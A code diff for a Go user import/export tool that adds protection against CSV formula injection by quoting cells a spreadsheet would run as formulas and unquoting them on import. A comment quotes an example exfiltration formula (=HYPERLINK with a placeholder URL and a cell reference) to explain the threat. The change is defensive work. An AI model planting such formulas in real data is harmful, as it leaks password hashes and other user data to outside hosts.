@@ -260,6 +260,7 @@ func (r *Reader) csvRecord(row []string) (usher.ImportUser, error) {
 		if !utf8.ValidString(v) {
 			return usher.ImportUser{}, fmt.Errorf("%s: not valid UTF-8", r.header[i])
 		}
+		v = fromCell(v)
 		var err error
 		switch r.header[i] {
 		case "username":
@@ -302,6 +303,32 @@ func (r *Reader) csvRecord(row []string) (usher.ImportUser, error) {
 		}
 	}
 	return rec.user()
+}
+
+// A spreadsheet takes a cell that starts with one of formulaStart as a
+// formula (or, for a tab or a carriage return, strips them and looks
+// again): a name such as =HYPERLINK("https://…?"&H2) in an export would
+// run when an administrator opens it, beside every user's password hash.
+// So a CSV file written here puts a quote before such a cell, as the
+// spreadsheets' own "text" prefix does, and before one that starts with a
+// quote already; the reader takes one quote off a cell that starts with
+// one before either, so that an export imports as it was.
+const formulaStart = "=+-@\t\r"
+
+// toCell is v as a CSV cell no spreadsheet runs.
+func toCell(v string) string {
+	if v != "" && strings.IndexByte(formulaStart+"'", v[0]) >= 0 {
+		return "'" + v
+	}
+	return v
+}
+
+// fromCell is the value a CSV cell holds, undoing toCell.
+func fromCell(v string) string {
+	if len(v) > 1 && v[0] == '\'' && strings.IndexByte(formulaStart+"'", v[1]) >= 0 {
+		return v[1:]
+	}
+	return v
 }
 
 // parseBool reads a CSV truth value: empty is false.
@@ -408,9 +435,13 @@ func (w *Writer) Write(x *usher.ExportUser) error {
 		}
 		meta = string(b)
 	}
-	return w.csv.Write([]string{rec.Username, rec.Email, strconv.FormatBool(rec.EmailConfirmed), rec.Name, rec.FirstName,
+	row := []string{rec.Username, rec.Email, strconv.FormatBool(rec.EmailConfirmed), rec.Name, rec.FirstName,
 		rec.LastName, rec.DisplayName, rec.PasswordHash, rec.ExternalID, rec.State, rec.Kind,
-		strconv.FormatBool(rec.Admin), meta, strings.Join(keys, "\n"), strings.Join(rec.Emails, "\n")})
+		strconv.FormatBool(rec.Admin), meta, strings.Join(keys, "\n"), strings.Join(rec.Emails, "\n")}
+	for i, v := range row {
+		row[i] = toCell(v)
+	}
+	return w.csv.Write(row)
 }
 
 // Flush writes out what is buffered.
